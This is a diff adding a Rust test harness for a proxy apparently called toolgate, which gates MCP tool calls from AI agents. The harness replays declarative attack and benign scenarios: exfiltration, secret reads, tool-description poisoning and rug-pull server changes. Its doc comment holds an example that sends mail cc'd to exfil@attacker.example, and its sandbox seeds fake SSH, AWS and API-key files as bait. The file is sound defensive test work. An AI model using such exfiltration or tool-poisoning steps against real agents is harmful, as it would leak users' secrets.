@@ -1,0 +1,745 @@
+//! The attack corpus runner: loads the declarative scenarios of `tests/attacks/*.yaml` and
+//! replays each session through the real `toolgate wrap` binary in front of the
+//! `attack_server` test server, with a scripted MCP client that answers approval prompts
+//! (`elicitation/create`) as the scenario says.
+//!
+//! A scenario file:
+//!
+//! ```yaml
+//! kind: mail                      # the attack_server kind
+//! policy: policies/mail.yaml      # relative to the file (or `policy_inline: "..."`)
+//! cases:
+//!   - name: poisoned-address-in-cc
+//!     bullet: exfiltration        # which bullet of the corpus it covers
+//!     attack:                     # a session (a list of steps, or {steps, server_args, …})
+//!       - {call: search_emails, args: {query: x}, expect: allow}
+//!       - {call: send_email, args: {to: [a@b], cc: [exfil@attacker.example]}, expect: deny}
+//!     benign:
+//!       - {call: search_emails, args: {query: x}, expect: allow}
+//!       - {call: send_email, args: {to: [alice@team.example]}, expect: allow}
+//! ```
+//!
+//! Steps: `call` (+ `args`, `expect: allow|deny|ask`, `human: allow_once|allow_session|deny`
+//! (default `deny`), `repeat: N`), `read_resource` (a URI, + `expect`), `list: true`
+//! (`tools/list`), `wait: list_changed` (wait for the notification, then list again),
+//! `restart: [server args]` (stop the proxy and start it again with the same pin store).
+//! `${home}` and `${workspace}` in arguments and URIs expand to the session's directories
+//! (a fresh temporary workspace and a fake home holding `.ssh/id_rsa`, `.aws/credentials`).
+//!
+//! Upstream side effects: unless a session states `upstream:` (the exact list of tool names,
+//! or `resources/read URI`, the server must have received), the expected record is every
+//! step that should reach the server (expect `allow`, or `ask` answered with an allow), with
+//! its exact arguments. Either way, the server's record must match exactly: a blocked call
+//! that arrived anyway fails the session.
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    clippy::indexing_slicing,
+    clippy::print_stdout,
+    missing_debug_implementations
+)]
+
+use std::collections::BTreeMap;
+use std::io::{BufRead, BufReader, Write};
+use std::path::{Path, PathBuf};
+use std::process::{Child, ChildStdin, Command, Stdio};
+use std::sync::mpsc::{Receiver, RecvTimeoutError, channel};
+use std::time::{Duration, Instant};
+
+use serde::Deserialize;
+use serde_json::{Value, json};
+
+/// The bound on one whole session (every step, restarts included).
+pub const SESSION_TIMEOUT: Duration = Duration::from_secs(45);
+
+/// One scenario file.
+#[derive(Debug, Clone, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct ScenarioFile {
+    /// The `attack_server` kind.
+    pub kind: String,
+    /// A policy file, relative to the scenario file.
+    #[serde(default)]
+    pub policy: Option<String>,
+    /// An inline policy (instead of `policy`).
+    #[serde(default)]
+    pub policy_inline: Option<String>,
+    /// Files to create: `path` (relative = workspace, `~/` = home) → content.
+    #[serde(default)]
+    pub files: BTreeMap<String, String>,
+    /// Symlinks to create: link → target (same path forms).
+    #[serde(default)]
+    pub symlinks: BTreeMap<String, String>,
+    /// The attack/benign pairs.
+    pub cases: Vec<Case>,
+}
+
+/// An attack and its benign twin.
+#[derive(Debug, Clone, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct Case {
+    pub name: String,
+    /// The corpus bullet it covers (`exfiltration`, `secrets`, `commands`, `urls`,
+    /// `rug-pull`, `budget`).
+    pub bullet: String,
+    /// Overrides the file's policy for this case.
+    #[serde(default)]
+    pub policy_inline: Option<String>,
+    pub attack: Session,
+    pub benign: Session,
+    /// A known bypass: the reason. The attack is expected to fail its expectations.
+    #[serde(default)]
+    pub known_failure: Option<String>,
+}
+
+/// A session: steps, or steps with options.
+#[derive(Debug, Clone, Deserialize)]
+#[serde(untagged)]
+pub enum Session {
+    Steps(Vec<Step>),
+    Full(SessionSpec),
+}
+
+/// A session with options.
+#[derive(Debug, Clone, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct SessionSpec {
+    pub steps: Vec<Step>,
+    /// Extra `attack_server` arguments (`--rug-pull-after 1`, `--poison TEXT`, …).
+    #[serde(default)]
+    pub server_args: Vec<String>,
+    /// Skip the initial `tools/list`.
+    #[serde(default)]
+    pub no_initial_list: bool,
+    /// The exact upstream record expected (tool names / `resources/read URI`).
+    #[serde(default)]
+    pub upstream: Option<Vec<String>>,
+}
+
+impl Session {
+    fn spec(&self) -> SessionSpec {
+        match self {
+            Session::Steps(steps) => SessionSpec {
+                steps: steps.clone(),
+                server_args: Vec::new(),
+                no_initial_list: false,
+                upstream: None,
+            },
+            Session::Full(spec) => spec.clone(),
+        }
+    }
+}
+
+/// One step of a session.
+#[derive(Debug, Clone, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct Step {
+    #[serde(default)]
+    pub call: Option<String>,
+    #[serde(default)]
+    pub args: Option<Value>,
+    #[serde(default)]
+    pub read_resource: Option<String>,
+    #[serde(default)]
+    pub list: bool,
+    #[serde(default)]
+    pub wait: Option<String>,
+    #[serde(default)]
+    pub restart: Option<Vec<String>>,
+    #[serde(default)]
+    pub expect: Option<Verdict>,
+    #[serde(default)]
+    pub human: Option<HumanAnswer>,
+    #[serde(default)]
+    pub repeat: Option<u32>,
+}
+
+/// A verdict as the client sees it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Verdict {
+    Allow,
+    Deny,
+    Ask,
+    /// A JSON-RPC error (not a verdict).
+    Error,
+}
+
+/// The scripted human's answer to an approval prompt.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum HumanAnswer {
+    AllowOnce,
+    AllowSession,
+    Deny,
+}
+
+impl HumanAnswer {
+    fn choice(self) -> &'static str {
+        match self {
+            HumanAnswer::AllowOnce => "allow_once",
+            HumanAnswer::AllowSession => "allow_session",
+            HumanAnswer::Deny => "deny",
+        }
+    }
+}
+
+/// Loads every `*.yaml` scenario file directly under `dir` (sorted by name).
+pub fn load_corpus(dir: &Path) -> Vec<(PathBuf, ScenarioFile)> {
+    let mut paths: Vec<PathBuf> = std::fs::read_dir(dir)
+        .unwrap_or_else(|e| panic!("cannot read `{}`: {e}", dir.display()))
+        .filter_map(Result::ok)
+        .map(|e| e.path())
+        .filter(|p| p.extension().is_some_and(|x| x == "yaml"))
+        .collect();
+    paths.sort();
+    paths
+        .into_iter()
+        .map(|p| {
+            let text = std::fs::read_to_string(&p).unwrap();
+            let file: ScenarioFile = serde_saphyr::from_str(&text)
+                .unwrap_or_else(|e| panic!("`{}`: {e}", p.display()));
+            (p, file)
+        })
+        .collect()
+}
+
+/// The outcome of one session.
+#[derive(Debug, Clone)]
+pub struct SessionResult {
+    /// Every mismatch (empty = passed).
+    pub failures: Vec<String>,
+    /// Approval prompts seen.
+    pub approvals: usize,
+    /// Calls the proxy denied outright.
+    pub denied: usize,
+    /// Calls that were asked and the human refused.
+    pub refused: usize,
+}
+
+impl SessionResult {
+    pub fn passed(&self) -> bool {
+        self.failures.is_empty()
+    }
+}
+
+/// Everything a session needs to start the proxy.
+pub struct Env<'a> {
+    /// The `toolgate` binary.
+    pub toolgate: &'a Path,
+    /// The `attack_server` binary.
+    pub server: &'a Path,
+    /// The scenario file's directory (policy paths are relative to it).
+    pub dir: &'a Path,
+}
+
+struct Sandbox {
+    _root: tempfile::TempDir,
+    base: PathBuf,
+    work: PathBuf,
+    home: PathBuf,
+}
+
+impl Sandbox {
+    fn new(file: &ScenarioFile) -> Sandbox {
+        let root = tempfile::Builder::new()
+            .prefix("toolgate-attack-")
+            .tempdir()
+            .unwrap();
+        let base = root.path().canonicalize().unwrap();
+        let work = base.join("work");
+        let home = base.join("home");
+        for d in [
+            work.join("src"),
+            home.join(".ssh"),
+            home.join(".aws"),
+            base.join("pins"),
+            base.join("broker"),
+        ] {
+            std::fs::create_dir_all(d).unwrap();
+        }
+        let mut files: BTreeMap<String, String> = [
+            ("README.md", "# app\nRun `cargo test`.\n"),
+            ("src/main.rs", "fn main() {}\n"),
+            ("notes.txt", "meeting notes: ship on friday\n"),
+            (".env", "API_KEY=sk-live-FAKE-NOT-A-SECRET\n"),
+            ("~/.ssh/id_rsa", "-----BEGIN OPENSSH PRIVATE KEY-----\nFAKE\n"),
+            ("~/.aws/credentials", "[default]\naws_secret_access_key=FAKE\n"),
+        ]
+        .into_iter()
+        .map(|(a, b)| (a.to_owned(), b.to_owned()))
+        .collect();
+        files.extend(file.files.clone());
+        let sb = Sandbox {
+            _root: root,
+            base,
+            work,
+            home,
+        };
+        for (path, content) in files {
+            let p = sb.resolve(&path);
+            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+            std::fs::write(p, content).unwrap();
+        }
+        for (link, target) in &file.symlinks {
+            let l = sb.resolve(link);
+            std::fs::create_dir_all(l.parent().unwrap()).unwrap();
+            std::os::unix::fs::symlink(sb.resolve(target), l).unwrap();
+        }
+        sb
+    }
+
+    /// `${home}` and `${workspace}` in a string.
+    fn expand_str(&self, s: &str) -> String {
+        s.replace("${home}", &self.home.to_string_lossy())
+            .replace("${workspace}", &self.work.to_string_lossy())
+    }
+
+    /// `${home}` and `${workspace}` in every string of a JSON value.
+    fn expand(&self, v: &Value) -> Value {
+        match v {
+            Value::String(s) => Value::String(self.expand_str(s)),
+            Value::Array(a) => Value::Array(a.iter().map(|x| self.expand(x)).collect()),
+            Value::Object(o) => Value::Object(
+                o.iter()
+                    .map(|(k, x)| (k.clone(), self.expand(x)))
+                    .collect(),
+            ),
+            other => other.clone(),
+        }
+    }
+
+    fn resolve(&self, path: &str) -> PathBuf {
+        match path.strip_prefix("~/") {
+            Some(rest) => self.home.join(rest),
+            None => self.work.join(path),
+        }
+    }
+}
+
+struct Client {
+    child: Child,
+    stdin: Option<ChildStdin>,
+    frames: Receiver<Value>,
+    next_id: i64,
+    notifications: Vec<String>,
+}
+
+impl Client {
+    fn spawn(mut cmd: Command) -> Client {
+        cmd.stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::null());
+        let mut child = cmd.spawn().expect("spawn toolgate wrap");
+        let stdout = child.stdout.take().unwrap();
+        let (tx, frames) = channel();
+        std::thread::spawn(move || {
+            for line in BufReader::new(stdout).lines() {
+                let Ok(line) = line else { break };
+                if line.trim().is_empty() {
+                    continue;
+                }
+                let v = serde_json::from_str::<Value>(&line)
+                    .unwrap_or_else(|_| json!({"unparseable": line}));
+                if tx.send(v).is_err() {
+                    break;
+                }
+            }
+        });
+        Client {
+            stdin: child.stdin.take(),
+            child,
+            frames,
+            next_id: 1,
+            notifications: Vec::new(),
+        }
+    }
+
+    fn send(&mut self, v: &Value) -> Result<(), String> {
+        let stdin = self.stdin.as_mut().ok_or("stdin closed")?;
+        let mut bytes = serde_json::to_vec(v).unwrap();
+        bytes.push(b'\n');
+        stdin
+            .write_all(&bytes)
+            .and_then(|()| stdin.flush())
+            .map_err(|e| format!("the proxy closed its stdin: {e}"))
+    }
+
+    fn next(&mut self, deadline: Instant, what: &str) -> Result<Value, String> {
+        let left = deadline.saturating_duration_since(Instant::now());
+        match self.frames.recv_timeout(left) {
+            Ok(v) => Ok(v),
+            Err(RecvTimeoutError::Timeout) => Err(format!("no answer to `{what}` in time")),
+            Err(RecvTimeoutError::Disconnected) => {
+                Err(format!("the proxy exited while `{what}` was pending"))
+            }
+        }
+    }
+
+    /// Sends a request; answers prompts with `human`; returns (response, prompts).
+    fn request(
+        &mut self,
+        method: &str,
+        params: Value,
+        deadline: Instant,
+        human: Option<HumanAnswer>,
+    ) -> Result<(Value, usize), String> {
+        let id = self.next_id;
+        self.next_id += 1;
+        self.send(&json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params}))?;
+        let mut prompts = 0;
+        loop {
+            let frame = self.next(deadline, method)?;
+            if let Some(inner) = frame.get("method").and_then(Value::as_str) {
+                let inner = inner.to_owned();
+                match frame.get("id").cloned() {
+                    Some(rid) => {
+                        let reply = if inner == "elicitation/create" {
+                            prompts += 1;
+                            let answer = human.unwrap_or(HumanAnswer::Deny);
+                            let offered = frame
+                                .pointer("/params/requestedSchema/properties/decision/enum")
+                                .and_then(Value::as_array)
+                                .is_some_and(|c| {
+                                    c.iter().any(|c| c.as_str() == Some(answer.choice()))
+                                });
+                            let result = if answer != HumanAnswer::Deny && offered {
+                                json!({"action": "accept", "content": {"decision": answer.choice()}})
+                            } else {
+                                json!({"action": "decline"})
+                            };
+                            json!({"jsonrpc": "2.0", "id": rid, "result": result})
+                        } else if inner == "ping" {
+                            json!({"jsonrpc": "2.0", "id": rid, "result": {}})
+                        } else {
+                            json!({"jsonrpc": "2.0", "id": rid,
+                                   "error": {"code": -32601, "message": "not supported"}})
+                        };
+                        self.send(&reply)?;
+                    }
+                    None => self.notifications.push(inner),
+                }
+                continue;
+            }
+            if frame.get("id").and_then(Value::as_i64) == Some(id) {
+                return Ok((frame, prompts));
+            }
+            if frame.get("unparseable").is_some() {
+                return Err(format!("the proxy wrote a frame that is not JSON: {frame}"));
+            }
+        }
+    }
+
+    fn wait_notification(&mut self, method: &str, deadline: Instant) -> Result<(), String> {
+        while !self.notifications.iter().any(|m| m == method) {
+            let frame = self.next(deadline, method)?;
+            if frame.get("id").is_none()
+                && let Some(m) = frame.get("method").and_then(Value::as_str)
+            {
+                self.notifications.push(m.to_owned());
+            }
+        }
+        self.notifications.retain(|m| m != method);
+        Ok(())
+    }
+
+    fn shutdown(mut self) {
+        drop(self.stdin.take());
+        let deadline = Instant::now() + Duration::from_secs(10);
+        while Instant::now() < deadline {
+            if matches!(self.child.try_wait(), Ok(Some(_))) {
+                return;
+            }
+            // Polling an exit status: there is no blocking wait with a timeout.
+            std::thread::sleep(Duration::from_millis(10));
+        }
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+impl Drop for Client {
+    fn drop(&mut self) {
+        if let Ok(None) = self.child.try_wait() {
+            let _ = self.child.kill();
+            let _ = self.child.wait();
+        }
+    }
+}
+
+/// True when a tool result was written by toolgate rather than the upstream server.
+fn by_toolgate(result: &Value) -> bool {
+    result.pointer("/_meta/dev.toolgate~1decision").is_some()
+        || result
+            .pointer("/content/0/text")
+            .and_then(Value::as_str)
+            .is_some_and(|t| t.starts_with("toolgate "))
+}
+
+/// Classifies a response: (verdict seen, reached the server).
+fn classify(response: &Value, prompts: usize) -> (Verdict, bool) {
+    let reached = response
+        .get("result")
+        .is_some_and(|r| !(r.get("isError") == Some(&json!(true)) && by_toolgate(r)));
+    if prompts > 0 {
+        return (Verdict::Ask, reached);
+    }
+    let blocked_error = response
+        .pointer("/error/message")
+        .and_then(Value::as_str)
+        .is_some_and(|m| m.starts_with("toolgate "));
+    match response.get("result") {
+        None if blocked_error => (Verdict::Deny, false),
+        None => (Verdict::Error, false),
+        Some(_) if !reached => (Verdict::Deny, false),
+        Some(_) => (Verdict::Allow, true),
+    }
+}
+
+fn label(v: Verdict) -> &'static str {
+    match v {
+        Verdict::Allow => "allow",
+        Verdict::Deny => "deny",
+        Verdict::Ask => "ask",
+        Verdict::Error => "error",
+    }
+}
+
+fn proxy_command(env: &Env<'_>, sb: &Sandbox, policy: &Path, server_args: &[String]) -> Command {
+    let mut cmd = Command::new(env.toolgate);
+    cmd.arg("wrap")
+        .arg("--policy")
+        .arg(policy)
+        .arg("--workspace")
+        .arg(&sb.work)
+        .arg("--audit")
+        .arg(sb.base.join("audit.jsonl"))
+        .args(["--approval", "client", "--server", "attack", "--"])
+        .arg(env.server)
+        .arg("--record")
+        .arg(sb.base.join("record.jsonl"))
+        .args(server_args)
+        .env("HOME", &sb.home)
+        .env("TOOLGATE_PINS_DIR", sb.base.join("pins"))
+        .env("TOOLGATE_BROKER_DIR", sb.base.join("broker"))
+        .env_remove("XDG_CONFIG_HOME")
+        .env_remove("XDG_DATA_HOME")
+        .env_remove("XDG_STATE_HOME")
+        .env_remove("TOOLGATE_LOG");
+    cmd
+}
+
+fn start(
+    env: &Env<'_>,
+    sb: &Sandbox,
+    policy: &Path,
+    server_args: &[String],
+    list: bool,
+    deadline: Instant,
+) -> Result<Client, String> {
+    let mut client = Client::spawn(proxy_command(env, sb, policy, server_args));
+    let (init, _) = client.request(
+        "initialize",
+        json!({"protocolVersion": "2025-06-18",
+               "capabilities": {"elicitation": {"form": {}}},
+               "clientInfo": {"name": "attack-corpus", "version": "0"}}),
+        deadline,
+        None,
+    )?;
+    if init.get("result").is_none() {
+        return Err(format!("initialize failed: {init}"));
+    }
+    client.send(&json!({"jsonrpc": "2.0", "method": "notifications/initialized"}))?;
+    if list {
+        let (r, _) = client.request("tools/list", json!({}), deadline, None)?;
+        if r.get("result").is_none() {
+            return Err(format!("tools/list failed: {r}"));
+        }
+    }
+    Ok(client)
+}
+
+/// Runs one session of `file` (with `kind` and the case's policy) and checks it.
+pub fn run_session(
+    env: &Env<'_>,
+    file: &ScenarioFile,
+    case: &Case,
+    session: &Session,
+) -> SessionResult {
+    let spec = session.spec();
+    let sb = Sandbox::new(file);
+    let policy_path = sb.base.join("policy.yaml");
+    let policy = match (&case.policy_inline, &file.policy_inline, &file.policy) {
+        (Some(p), _, _) | (None, Some(p), _) => p.clone(),
+        (None, None, Some(rel)) => std::fs::read_to_string(env.dir.join(rel))
+            .unwrap_or_else(|e| panic!("policy `{rel}`: {e}")),
+        (None, None, None) => panic!("case `{}`: no policy", case.name),
+    };
+    std::fs::write(&policy_path, policy).unwrap();
+    let deadline = Instant::now() + SESSION_TIMEOUT;
+    let mut result = SessionResult {
+        failures: Vec::new(),
+        approvals: 0,
+        denied: 0,
+        refused: 0,
+    };
+    let mut server_args = vec!["--kind".to_owned(), file.kind.clone()];
+    server_args.extend(spec.server_args.iter().cloned());
+    let mut expected_record: Vec<Value> = Vec::new();
+    let mut client = match start(
+        env,
+        &sb,
+        &policy_path,
+        &server_args,
+        !spec.no_initial_list,
+        deadline,
+    ) {
+        Ok(c) => c,
+        Err(e) => {
+            result.failures.push(format!("start: {e}"));
+            return result;
+        }
+    };
+    for (n, step) in spec.steps.iter().enumerate() {
+        let at = n + 1;
+        if let Some(args) = &step.restart {
+            client.shutdown();
+            let mut a = vec!["--kind".to_owned(), file.kind.clone()];
+            a.extend(args.iter().cloned());
+            client = match start(env, &sb, &policy_path, &a, true, deadline) {
+                Ok(c) => c,
+                Err(e) => {
+                    result.failures.push(format!("step {at}: restart: {e}"));
+                    return result;
+                }
+            };
+            continue;
+        }
+        if step.list {
+            if let Err(e) = client.request("tools/list", json!({}), deadline, None) {
+                result.failures.push(format!("step {at}: tools/list: {e}"));
+                return result;
+            }
+            continue;
+        }
+        if let Some(what) = &step.wait {
+            let method = format!("notifications/tools/{what}");
+            let listed = client.wait_notification(&method, deadline).and_then(|()| {
+                client
+                    .request("tools/list", json!({}), deadline, None)
+                    .map(|_| ())
+            });
+            if let Err(e) = listed {
+                result.failures.push(format!("step {at}: wait {what}: {e}"));
+                return result;
+            }
+            continue;
+        }
+        let (method, params, shown, record) = if let Some(tool) = &step.call {
+            let args = sb.expand(&step.args.clone().unwrap_or(json!({})));
+            (
+                "tools/call",
+                json!({"name": tool, "arguments": args}),
+                format!("{tool} {args}"),
+                json!({"method": "tools/call", "name": tool, "arguments": args}),
+            )
+        } else if let Some(uri) = &step.read_resource {
+            let uri = &sb.expand_str(uri);
+            (
+                "resources/read",
+                json!({"uri": uri}),
+                format!("resources/read {uri}"),
+                json!({"method": "resources/read", "uri": uri}),
+            )
+        } else {
+            panic!("case `{}` step {at}: nothing to do", case.name);
+        };
+        for _ in 0..step.repeat.unwrap_or(1) {
+            let (response, prompts) =
+                match client.request(method, params.clone(), deadline, step.human) {
+                    Ok(r) => r,
+                    Err(e) => {
+                        result.failures.push(format!("step {at} `{shown}`: {e}"));
+                        return result;
+                    }
+                };
+            result.approvals += prompts;
+            let (seen, reached) = classify(&response, prompts);
+            if seen == Verdict::Deny {
+                result.denied += 1;
+            }
+            if seen == Verdict::Ask && !reached {
+                result.refused += 1;
+            }
+            let expect = step.expect.unwrap_or(Verdict::Allow);
+            let wants_reach = match expect {
+                Verdict::Allow => true,
+                Verdict::Ask => step.human.is_some_and(|h| h != HumanAnswer::Deny),
+                Verdict::Deny | Verdict::Error => false,
+            };
+            if wants_reach {
+                expected_record.push(record.clone());
+            }
+            if seen != expect || reached != wants_reach {
+                let why = response
+                    .pointer("/result/content/0/text")
+                    .or_else(|| response.pointer("/error/message"))
+                    .and_then(Value::as_str)
+                    .unwrap_or("")
+                    .lines()
+                    .next()
+                    .unwrap_or("")
+                    .chars()
+                    .take(160)
+                    .collect::<String>();
+                result.failures.push(format!(
+                    "step {at} `{shown}`: expected {}, got {}{} ({why})",
+                    label(expect),
+                    label(seen),
+                    if reached { " (reached the server)" } else { "" }
+                ));
+            }
+        }
+    }
+    client.shutdown();
+    let record: Vec<Value> = std::fs::read_to_string(sb.base.join("record.jsonl"))
+        .unwrap_or_default()
+        .lines()
+        .filter_map(|l| serde_json::from_str(l).ok())
+        .collect();
+    match &spec.upstream {
+        Some(names) => {
+            let seen: Vec<String> = record.iter().map(record_name).collect();
+            if &seen != names {
+                result.failures.push(format!(
+                    "upstream saw {seen:?}, expected exactly {names:?}"
+                ));
+            }
+        }
+        None => {
+            if record != expected_record {
+                let seen: Vec<String> = record.iter().map(record_name).collect();
+                let want: Vec<String> = expected_record.iter().map(record_name).collect();
+                result.failures.push(format!(
+                    "upstream saw {seen:?}, expected exactly {want:?} (with the same arguments)"
+                ));
+            }
+        }
+    }
+    result
+}
+
+fn record_name(v: &Value) -> String {
+    match v.get("method").and_then(Value::as_str) {
+        Some("resources/read") => format!(
+            "resources/read {}",
+            v.get("uri").and_then(Value::as_str).unwrap_or("")
+        ),
+        _ => v
+            .get("name")
+            .and_then(Value::as_str)
+            .unwrap_or("")
+            .to_owned(),
+    }
+}
